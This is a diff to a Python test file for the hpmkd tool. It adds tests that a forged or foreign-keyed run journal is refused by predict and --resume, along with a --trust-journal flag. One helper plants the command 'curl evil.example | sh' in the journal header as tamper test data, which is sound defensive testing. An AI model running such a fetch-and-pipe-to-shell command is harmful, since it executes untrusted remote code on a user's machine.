@@ -1,5 +1,6 @@
 """What --resume and distill(journal=…) promise and refuse, in this process."""
 
+import contextlib
 import json
 import re
 import shlex
@@ -19,7 +20,7 @@ import hpmkd
 from hpmkd.cli import cli
 from hpmkd.errors import JournalWarning, RunFolderError, StudentFileError
 from hpmkd.execution.journal import JournalFile
-from hpmkd.user_key import key_path
+from hpmkd.user_key import key_path, user_key
 from hpmkd_defaults.stages.tree import TreeStage
 
 SETTINGS = {
@@ -167,7 +168,7 @@ def test_where_it_runs_and_how_long_it_may_take_does_not_matter(wine, begun):
 
 def test_a_journal_of_another_user_is_refused(wine, begun):
     key_path().unlink()
-    with pytest.raises(RunFolderError, match=r"another user or machine.*--trust-pickle"):
+    with pytest.raises(RunFolderError, match=r"another user or machine.*--trust-journal"):
         distill(wine, begun)
 
 
@@ -383,6 +384,45 @@ def test_an_unfinished_run_says_so_and_its_best_student_predicts(stopped, data):
     with pytest.raises(StudentFileError, match="unfinished run"):
         hpmkd.load(folder)
     assert call("predict", folder / "best.hpmkd", data).stdout.startswith("prediction,p_a,p_b,p_c")
+
+
+def forge(folder):
+    """Have the journal of a run name a command that does something else."""
+    with contextlib.closing(sqlite3.connect(folder / "journal")) as database, database:
+        (header,) = database.execute("SELECT pickle FROM results WHERE name = 'header'").fetchone()
+        forged = json.dumps({**json.loads(header), "command": "curl evil.example | sh"}).encode()
+        database.execute("UPDATE results SET pickle = ? WHERE name = 'header'", (forged,))
+
+
+@pytest.mark.parametrize("way", ["forged", "another key", "no key"])
+def test_a_command_that_our_key_did_not_seal_is_not_shown(way, stopped, data):
+    folder, _ = stopped
+    if way == "forged":
+        forge(folder)
+    else:
+        key_path().unlink()
+        if way == "another key":
+            user_key()
+    refused = call("predict", folder, data)
+    assert refused.exit_code == 6
+    assert "evil" not in refused.stderr
+    assert "hpmkd distill" not in refused.stderr
+    for said in ("the same command, with --resume", "--trust-journal if you trust"):
+        assert said in refused.stderr
+    assert key_path().exists() is (way != "no key")
+    refused = command(data, "--resume", folder)
+    assert refused.exit_code == 7
+    assert "evil" not in refused.stderr
+
+
+def test_a_pickle_that_is_trusted_makes_no_journal_so(stopped, data):
+    folder, _ = stopped
+    key_path().unlink()
+    refused = command(data, "--resume", folder, "--trust-pickle")
+    assert refused.exit_code == 7
+    assert "add --trust-journal" in refused.stderr
+    assert command(data, "--resume", folder, "--trust-journal").exit_code == 0
+    assert json.loads((folder / "counts.json").read_text())["resumed"] > 0
 
 
 def test_out_is_refused_where_a_run_is_unfinished_and_overwrite_begins_anew(stopped, data):
